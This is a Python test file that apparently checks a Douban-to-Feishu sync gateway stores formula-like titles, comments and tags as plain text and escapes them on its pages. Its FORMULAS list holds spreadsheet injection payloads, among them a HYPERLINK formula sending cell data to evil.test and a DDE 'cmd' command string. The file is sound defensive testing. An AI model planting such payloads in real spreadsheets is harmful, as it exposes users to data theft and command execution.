"""Text that a spreadsheet would take for a formula: it goes to a cell of text, as it is, and is shown as text."""

import html

import msgspec
import pytest

from gateway.demo import walk
from gateway.feishu.fields import columns_of
from gateway.sandbox.person import Entry
from tests.attack.conftest import Attacks
from tests.support import Started, World
from tests.test_push import TABLE
from tests.test_two_at_once import subject

FORMULAS = (
    '=HYPERLINK("http://evil.test/?"&A1,"点这里")',
    "=1+1",
    "+1+cmd|' /C calc'!A1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "＝1+1",
    "'=1+1",
)
TEXT, MULTI_SELECT = 1, 4
"""Types of Feishu's columns; that of formulas is 20."""


@pytest.fixture
def marked(world: World) -> list[tuple[str, Entry]]:
    """A title, a comment and a tag of each kind."""
    whole = [entry for entry in world.person.marks if not entry.removed]
    chosen: list[tuple[str, Entry]] = list(zip(FORMULAS, whole, strict=False))
    for text, entry in chosen:
        entry.subject = msgspec.structs.replace(entry.subject, title=text, original_title=None)
        entry.mark = msgspec.structs.replace(entry.mark, comment=text)
        if not text.startswith(("\t", "=H", "+")):  # a tag has no space
            entry.mark = msgspec.structs.replace(entry.mark, tags=(text,))
    return chosen


def test_a_formula_is_text(world: World, marked: list[tuple[str, Entry]], attacks: Attacks) -> None:
    started = world.start()
    world.background.run(walk(world.person, world.visitor, started.pair()))
    assert started.connect().status == 200
    assert started.settled().state == "idle"
    types = {column.names.zh: column.type for column in columns_of("all")}
    assert (types["标题"], types["我的备注"], types["我的标签"]) == (TEXT, TEXT, MULTI_SELECT)
    rows = {row["豆瓣页面"]["link"]: row for row in world.rows(TABLE).values()}
    for text, entry in marked:
        row = rows[subject(entry)]
        plain = text.strip()  # what HTML makes of a tab
        attacks.held(row["标题"] == plain, row["标题"], "for", text)
        attacks.held(row["我的备注"] == plain, row["我的备注"], "for", text)
        if entry.mark.tags == (text,):
            attacks.held(row["我的标签"] == [text], row["我的标签"], "for", text)
        attacks.held(shown(started, entry, plain), text, "is not shown as it is")


def shown(started: Started, entry: Entry, text: str) -> bool:
    page = started.owner.call("GET", f"/marks/{entry.key.medium}/{entry.key.id}").body.decode()
    return page.count(html.escape(text).replace("&#x27;", "&#39;").replace("&quot;", "&#34;")) >= 2
